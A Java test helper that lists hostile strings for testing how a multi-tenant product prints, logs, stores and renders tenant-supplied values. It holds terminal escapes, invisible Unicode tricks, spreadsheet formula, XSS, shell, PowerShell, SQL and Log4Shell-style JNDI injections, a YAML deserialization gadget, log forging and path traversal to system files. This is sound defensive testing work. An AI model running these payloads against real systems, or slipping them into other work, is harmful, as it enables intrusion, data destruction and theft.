package dev.cordon.testing;

import java.util.List;
import java.util.stream.Stream;

/**
 * What an attacker writes where a tenant lets him: rule names, display names, subjects, user agents. Every place that
 * prints, logs, stores or renders such a value is tested with {@link #all()}.
 */
public final class HostileStrings {
    /** Clears a terminal, rewrites its title, hides text, moves the cursor over what was printed before. */
    public static final List<String> TERMINAL = List.of(
            "\u001b[2J\u001b[H\u001b[32mcontained\u001b[0m",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://mail.example\u001b\\click\u001b]8;;\u001b\\",
            "\u009b2J",
            "deleted\rnothing found",
            "a\b\b\b\u007f",
            "form\ffeed\u000bvertical",
            "\u0000null");

    /** Shown in another order, or not at all, and so read as something else. */
    public static final List<String> INVISIBLE = List.of(
            "invoice\u202Efdp.exe",
            "\u2066\u2067Anna\u2069\u2069",
            "ad\u200Bmin",
            "\uFEFFInvoices",
            "Inv\u00ADoices",
            "\u3164",
            "\u2800",
            "\uDB40\uDC41\uDB40\uDC42",
            "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
            "\uD83D",
            "\uE000");

    /** Taken for code by a spreadsheet, a page, a script, a template or a database. */
    public static final List<String> CODE = List.of(
            "=HYPERLINK(\"https://mail.example\",\"open\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "]]><!-- -->",
            "$(reboot)",
            "`reboot`",
            "'; Remove-Mailbox -Identity *; '",
            "${jndi:ldap://mail.example/a}",
            "{{7*7}}",
            "Robert'); DROP TABLE journal;--",
            "*[link](https://mail.example) | cell | `code`",
            "%s%n%x%d");

    /** Taken for structure by a log, a YAML or a JSON file. */
    public static final List<String> STRUCTURE = List.of(
            "ok\r\n2026-03-02T08:00:00Z INFO state=verified",
            "line\u2028separator\u2029paragraph\u0085next",
            "!!javax.script.ScriptEngineManager [x]",
            "&a [*a, *a]",
            "- key: value\n  other: value",
            "{\"state\": \"verified\"}",
            "\"quoted\\\"",
            "yes",
            "null",
            "0x1F",
            "---");

    /** Taken for a place by a file system, on any platform. */
    public static final List<String> PATHS = List.of(
            "../../../etc/passwd",
            "..\\..\\Windows\\System32",
            "/absolute",
            "C:\\absolute",
            "\\\\server\\share",
            "CON",
            "nul.txt",
            "name.",
            "name ",
            "a:stream",
            "~");

    /** Too short or too long for what was planned. */
    public static final List<String> SIZES =
            List.of("", " ", "\u00a0", "x".repeat(70_000), "\u00e4\u6f22\ud83d\ude00".repeat(500));

    private HostileStrings() {}

    /** All of them. */
    public static List<String> all() {
        return Stream.of(TERMINAL, INVISIBLE, CODE, STRUCTURE, PATHS, SIZES)
                .flatMap(List::stream)
                .toList();
    }
}
